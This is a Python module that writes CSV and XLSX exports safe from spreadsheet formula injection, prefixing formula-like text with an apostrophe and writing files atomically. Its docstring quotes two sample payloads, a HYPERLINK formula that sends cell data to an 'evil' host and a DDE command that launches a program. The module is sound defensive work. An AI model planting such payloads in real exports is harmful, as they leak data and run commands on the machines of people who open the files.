"""Write CSV and XLSX files that a spreadsheet cannot turn into formulas (CSV injection).

Mention titles, post texts and author names come from the public. A cell such as
``=HYPERLINK("http://evil/?"&A1, "klik")`` or ``+cmd|' /C calc'!A0`` would run as a formula
when a report annex or BI export is opened in Excel or LibreOffice. Every text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'``,
which spreadsheets show as plain text (OWASP's advice). Numbers, dates and booleans are
written as they are, so a negative number stays a number.

Files are written to a temporary name and renamed at the end: a crash never leaves half an
annex behind.

Use it for every CSV or XLSX that Citra writes::

    from ingestion.safe_export import write_csv, write_xlsx, frame_rows
    write_csv(path, ["outlet", "title"], rows)
    write_xlsx(path, *frame_rows(polars_df), sheet="Lampiran")
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# characters XML 1.0 (and so XLSX) cannot hold; openpyxl refuses them
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralize(value: Any) -> Any:
    """The value, with a ``'`` in front when it is text that a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def frame_rows(frame: Any) -> tuple[list[str], list[tuple[Any, ...]]]:
    """(header, rows) of a polars or pandas DataFrame, for ``write_csv``/``write_xlsx``."""
    header = [str(c) for c in frame.columns]
    if hasattr(frame, "iter_rows"):
        return header, list(frame.iter_rows())
    return header, [tuple(r) for r in frame.itertuples(index=False, name=None)]


def _replace_atomically(path: Path, write: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    draft = path.with_name(f".{path.name}.{os.getpid()}.part")
    try:
        write(draft)
        os.replace(draft, path)
    finally:
        draft.unlink(missing_ok=True)
    return path


def write_csv(
    path: Path,
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8-sig",
) -> Path:
    """Write a CSV with every formula-like text cell neutralized (UTF-8 with BOM: Excel reads it)."""

    def write(target: Path) -> None:
        with target.open("w", encoding=encoding, newline="") as fh:
            writer = csv.writer(fh, delimiter=delimiter, lineterminator="\r\n")
            writer.writerow([neutralize(h) for h in header])
            for row in rows:
                writer.writerow(["" if v is None else neutralize(v) for v in row])

    return _replace_atomically(Path(path), write)


def _xlsx_cell(value: Any) -> Any:
    if isinstance(value, str):
        return neutralize(XML_ILLEGAL.sub("", value))
    if isinstance(value, datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)  # Excel has no time zones: keep the wall-clock time
    return value


def write_xlsx(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet: str = "data") -> Path:
    """Write a one-sheet XLSX; text cells are stored as text, never as formulas."""
    from openpyxl import Workbook

    def write(target: Path) -> None:
        book = Workbook(write_only=True)
        ws = book.create_sheet(sheet[:31])
        ws.append([_xlsx_cell(h) for h in header])
        for row in rows:
            ws.append([_xlsx_cell(v) for v in row])
        book.save(target)

    return _replace_atomically(Path(path), write)
